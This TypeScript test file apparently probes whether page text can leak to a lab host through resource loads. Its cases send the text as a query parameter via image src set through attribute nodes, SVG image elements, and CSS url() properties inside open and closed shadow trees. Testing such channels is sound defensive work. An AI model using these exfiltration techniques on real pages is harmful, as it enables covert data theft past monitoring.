import { type ChannelCase, testChannels } from '../../support/channel-case.ts';
import { scripted } from '../../support/channel-page.ts';
import type { User } from '../../support/user.ts';

const press = (user: User) => user.click('#go');
const pressAndPoint = async (user: User) => {
  await user.click('#go');
  await user.page.mouse.move(300, 300);
  await user.page.mouse.move(320, 320);
};

const byAttribute = (name: string, set: string): ChannelCase => ({
  name: `loading by ${name}`,
  page: scripted(
    `const i = document.createElement('img'), a = document.createAttribute('src'), address = lab.at('anh') + '?d=' + encodeURIComponent(text);
    i.src = 'data:,'; ${set}; document.body.append(i)`,
  ),
  drive: press,
});

/** The address of a link is no load, and its attribute may be given to what loads. */
const byLinksAttribute = (name: string, set: string): ChannelCase => ({
  name: `loading by ${name} that a link had`,
  page: scripted(
    `const l = document.createElement('a'), s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'), i = document.createElementNS(s.namespaceURI, 'image');
    l.href = lab.at('anh') + '?d=' + encodeURIComponent(text); s.append(i);
    const a = l.removeAttributeNode(l.attributes.href); ${set}; document.body.append(s)`,
  ),
  drive: press,
});

const inShadow = (name: string, mode: 'open' | 'closed', set: string): ChannelCase => ({
  name: `loading by ${name} in ${mode === 'open' ? 'an open' : 'a closed'} shadow tree`,
  page: scripted(
    `const h = document.createElement('div'), e = document.createElement('ul'), r = h.attachShadow({ mode: '${mode}' }), url = 'url("' + lab.at('nen') + '?d=' + encodeURIComponent(text) + '")';
    e.innerHTML = '<li>x';
    e.style.cssText = 'border: 3px solid; border-image-slice: 3; position: fixed; inset: 0; z-index: 9';
    r.append(e); document.body.append(h); ${set}`,
  ),
  drive: name === 'cursor' ? pressAndPoint : press,
});

const modes = ['open', 'closed'] as const;
const properties = ['backgroundImage', 'maskImage', 'borderImageSource', 'listStyleImage', 'cursor'];

testChannels('loads', import.meta.filename, [
  byAttribute('the node value of an attribute', 'i.attributes.src.nodeValue = address'),
  byAttribute('the text of an attribute', 'i.attributes.src.textContent = address'),
  byLinksAttribute('an attribute node', 'i.setAttributeNode(a)'),
  byLinksAttribute('an attribute node with a namespace', 'i.setAttributeNodeNS(a)'),
  byLinksAttribute('a listed attribute', 'i.attributes.setNamedItem(a)'),
  byLinksAttribute('a listed attribute with a namespace', 'i.attributes.setNamedItemNS(a)'),
  ...modes.flatMap((mode) => [
    ...properties.map((property) =>
      inShadow(property, mode, `e.style.${property} = url${property === 'cursor' ? " + ', auto'" : ''}`),
    ),
    inShadow(
      'the style of an element of a tree',
      mode,
      `const k = document.createElement('div'), p = document.createElement('p'); p.append('x'); k.attachShadow({ mode: '${mode}' }).append(p); r.append(k); p.style.backgroundImage = url`,
    ),
    inShadow(
      'a style element that is filled',
      mode,
      `const s = document.createElement('style'); r.append(s); s.append('li { background: ' + url + ' }')`,
    ),
  ]),
]);
